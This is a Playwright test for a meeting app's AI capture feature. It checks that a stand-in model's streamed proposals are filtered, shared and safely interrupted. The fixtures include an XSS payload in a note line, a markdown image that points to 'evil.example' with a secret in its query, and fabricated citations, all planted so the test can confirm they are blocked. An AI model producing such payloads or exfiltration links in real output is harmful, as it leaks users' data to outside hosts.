import { expect as soon } from '@playwright/test';
import { openStream, piece, startStandIn } from '../src/lib/server/llm/stand-in.ts';
import { inDays } from './meetings.ts';
import { startServer } from './own-server.ts';
import { enterRoom, newTeam, test, write, type Participant } from './people.ts';

test.describe.configure({ timeout: 300_000 });
test.use({ actionTimeout: 20_000 });
/** Three browsers, a server and a model share this machine. */
const expect = soon.configure({ timeout: 30_000 });

const key = 'sk-canary-4f1d9a';
const lines = [
	'We saw that four sites cause 71% of lost robot minutes',
	'Grace Hopper will call Havenport about the invoice',
	'We will publish the Tilburg incident review',
	'Write to tom@havenport.example and <img src=x onerror=alert(1)>'
];
const cite = (note: string, quote: string) => [{ note, quote }];
const common = { why: 'The notes say so.', owner: null, due: null };
const items = [
	{
		...{ ...common, kind: 'insight', title: 'Four sites cause most of the lost minutes' },
		cites: cite('n1', 'four sites cause 71%')
	},
	{
		...{ ...common, kind: 'action', title: 'Call Havenport about the invoice' },
		...{ owner: '[P2]', due: inDays(4), cites: cite('n2', 'call Havenport about the invoice') }
	},
	{
		...{ ...common, kind: 'decision', title: 'Publish the incident review' },
		cites: cite('n3', 'publish the Tilburg incident review')
	},
	{ ...common, kind: 'insight', title: 'Ghost', cites: cite('n999', 'nothing') },
	{ ...common, kind: 'insight', title: 'False quote', cites: cite('n1', 'nine sites cause 99%') },
	{
		...{ ...common, kind: 'insight', title: '![x](https://evil.example/?q=secret)' },
		cites: cite('n1', 'four sites cause 71%')
	}
];

const model = ({ page }: Participant) => page.getByRole('region', { name: 'Ask the model' });
const proposals = (person: Participant) => model(person).getByRole('article');
const outcomes = ({ page }: Participant) => page.getByRole('region', { name: 'Outcomes' });

test('a model streams insights with valid citations, people accept, edit and dismiss them, and its plug is pulled', async ({
	browser
}) => {
	let mode: 'stream' | 'plug' = 'stream';
	let goOn = () => {};
	const standIn = await startStandIn(({ messages }, to) => {
		if (messages[0]?.content.includes('"works"')) return '{"works":true}';
		const said =
			mode === 'plug' ? items.map((one) => ({ ...one, title: `${one.title} again` })) : items;
		const text = JSON.stringify({ items: said });
		openStream(to);
		const half = text.indexOf('},{') + 1;
		to.write(piece({ content: text.slice(0, half) }));
		// Slow, and never so silent that it would be given up.
		const slow = setInterval(() => to.write(piece({ content: ' ' })), 1000);
		goOn = () => {
			clearInterval(slow);
			if (mode === 'plug') return void to.destroy();
			to.write(piece({ content: text.slice(half) }));
			to.end(`${piece({}, 'stop')}data: [DONE]\n\n`);
		};
	});
	const server = await startServer(undefined, {
		...{ OPENAI_BASE_URL: standIn.url, OPENAI_MODEL: 'stand-in 1', OPENAI_API_KEY: key }
	});
	try {
		const team = await newTeam(browser, server.origin, ['Ada Lovelace', 'Grace Hopper'], {
			observers: ['Mary Kenneth']
		});
		const [ada, grace, mary] = team.people;
		let foreign = 0;
		let keys = 0;
		const violations: string[] = [];
		for (const { page } of team.people) {
			page.on('request', (request) => {
				const { origin } = new URL(request.url());
				if (/^https?:/.test(request.url()) && origin !== server.origin) foreign++;
			});
			page.on('response', (response) => {
				void response.text().then(
					(text) => (keys += text.includes(key) ? 1 : 0),
					() => {}
				);
			});
			page.on('console', (said) => {
				if (/Content.Security.Policy/i.test(said.text())) violations.push(said.text());
			});
		}
		await enterRoom([ada, grace], team.room);
		await ada.page.getByRole('button', { name: 'Start the meeting' }).click();
		// Whoever only reads along comes in once it has begun.
		await expect(async () => {
			await mary.page.goto(team.room);
			await expect(model(mary)).toBeVisible({ timeout: 5000 });
		}).toPass();
		for (const line of lines) await write(ada.page, line);

		// Off air, and visibly so: nothing has been asked.
		for (const person of team.people) await expect(model(person)).toContainText('Off air');
		await expect(model(grace)).toContainText('Whoever has the chair can ask it');
		expect(standIn.asked.slice(1)).toEqual([]);

		await model(ada).getByRole('button', { name: 'Capture from the notes' }).click();
		for (const person of team.people) {
			await expect(model(person)).toContainText('On air');
			await expect(proposals(person)).toContainText('Four sites cause most of the lost minutes');
			await expect(proposals(person)).toContainText(`“${lines[0]}”`);
			await expect(proposals(person)).toContainText('From AI');
		}
		// Half of it is there while the rest is still being written.
		await expect(
			model(ada).getByRole('button', { name: /Publish the incident review/ })
		).toBeHidden();
		goOn();
		for (const person of team.people) await expect(model(person)).toContainText('Off air');
		for (const gone of ['Ghost', 'False quote', 'evil.example'])
			await expect(model(ada)).not.toContainText(gone);
		// Whoever only reads along answers nothing.
		await expect(
			model(mary).getByRole('button', { name: /Accept|Edit|Dismiss|Capture/ })
		).toHaveCount(0);

		// Accepted by one, for all.
		await proposals(grace)
			.getByRole('button', { name: /^Accept/ })
			.click();
		await expect(outcomes(ada)).toContainText('Four sites cause most of the lost minutes');
		// Edited by keyboard: it becomes an action with its owner and date, and its fields open.
		await expect(proposals(ada)).toContainText('Call Havenport about the invoice');
		await expect(proposals(ada)).toContainText('Grace');
		await proposals(ada).getByRole('button', { name: /^Edit/ }).focus();
		await ada.page.keyboard.press('e');
		const title = outcomes(ada).getByRole('listitem').getByRole('textbox').first();
		await title.fill('Call Havenport today');
		await title.press('Control+Enter');
		await expect(outcomes(grace)).toContainText('Call Havenport today');
		// Dismissed, and brought back.
		await proposals(grace)
			.getByRole('button', { name: /^Dismiss/ })
			.click();
		await expect(model(ada).getByRole('article')).toHaveCount(0);
		await grace.page.getByRole('button', { name: 'Undo' }).click();
		await expect(proposals(ada)).toContainText('Publish the incident review');
		await proposals(ada)
			.getByRole('button', { name: /^Dismiss/ })
			.click();

		// No prompt told a name or an address, and the key went nowhere but to the model.
		const sent = JSON.stringify(standIn.asked);
		expect(sent).toContain('four sites cause 71%');
		expect(sent).not.toMatch(/Lovelace|Hopper|Grace|havenport\.example|@example\.org/);

		// The plug is pulled in the middle: one line says so, the meeting is as it was and goes on.
		mode = 'plug';
		await model(ada).getByRole('button', { name: 'Capture from the notes' }).click();
		await expect(model(grace)).toContainText('On air');
		await expect.poll(() => standIn.asked.length).toBe(3);
		goOn();
		await expect(model(grace)).toContainText('meeting is as it was');
		for (const person of [ada, grace]) {
			await expect(outcomes(person).getByRole('listitem')).toHaveCount(2);
			await expect(person.page.getByText(lines[0] ?? '').first()).toBeVisible();
		}
		await write(grace.page, 'The meeting goes on');
		await expect(ada.page.getByText('The meeting goes on')).toBeVisible();

		// The settings say how it works, and what became of what it proposed.
		await ada.page.goto(`${team.home}/settings/model`, { waitUntil: 'networkidle' });
		await expect(ada.page.getByText('It works: it answered')).toBeVisible();
		await expect(ada.page.getByText('stand-in 1')).toBeVisible();
		await ada.page.getByRole('button', { name: 'Try it now' }).click();
		await expect(ada.page.getByRole('button', { name: 'Try it now' })).toBeEnabled();
		console.log(
			`AI in the browser: ${foreign} foreign requests, ${violations.length} CSP violations, ${keys} answers that hold the key`
		);
		expect({ foreign, violations, keys }).toEqual({ foreign: 0, violations: [], keys: 0 });
	} finally {
		await server.remove();
		await standIn.close();
	}
});
